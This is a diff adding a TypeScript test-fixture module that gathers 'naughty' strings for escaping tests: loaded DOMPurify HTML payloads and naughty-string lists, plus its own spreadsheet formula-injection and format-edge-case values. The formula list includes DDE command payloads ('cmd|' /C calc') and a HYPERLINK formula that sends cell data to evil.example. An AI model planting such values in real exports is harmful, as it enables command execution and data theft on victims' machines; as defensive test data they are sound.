@@ -1,0 +1,67 @@
+import { existsSync, readFileSync } from 'node:fs'
+import { resolve } from 'node:path'
+
+const folder = resolve('../shared/data/naughty')
+const isThere = existsSync(folder)
+const read = <T>(file: string): T[] => (isThere ? (JSON.parse(readFileSync(resolve(folder, file), 'utf8')) as T[]) : [])
+
+/** What to say where the collected payloads are not here and only those of this file are tried; undefined where they are. */
+export const MISSING = isThere ? undefined : `The payloads of ${folder} are not here: only those of the tests' own are tried.`
+
+/** Texts that a spreadsheet may take for a formula, or may not give back as they are. */
+export const FORMULAS = [
+  '=1+1',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u200b=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "'=1+1",
+  "''=1+1",
+  "'",
+  "it's fine",
+  'a;=1+1',
+  'a;  @SUM(1)',
+  'first\n- second',
+  'first\r\n=1+1&"',
+  'a\t=1+1',
+  'a";=1+1;"b',
+  '+1-312-555-0100',
+  '-5',
+] as const
+
+/** Texts that are not given back as they are where a format's own marks are not escaped. */
+export const MARKS = [
+  '_x0041_',
+  '_x005F_x0041_',
+  '_x000D_',
+  '\u0001\u000b',
+  '\uffff',
+  'a"b""c',
+  ' edged ',
+  '\ufeffbom',
+  '00123',
+  '1E5',
+  'TRUE',
+  '2026-11-21',
+  '#12',
+  '\u202eabc',
+]
+
+/** Every text that is tried: as long as a note may be, and none that the database can not hold. */
+export const NAUGHTY: readonly string[] = [
+  ...read<{ payload: string }>('dompurify-html-payloads.json').map(({ payload }) => payload),
+  ...read<string>('blns.json'),
+  ...FORMULAS,
+  ...MARKS,
+]
+  .map((text) => [...text.toWellFormed().replaceAll('\0', '')].slice(0, 2000).join(''))
+  .filter((text) => text !== '')
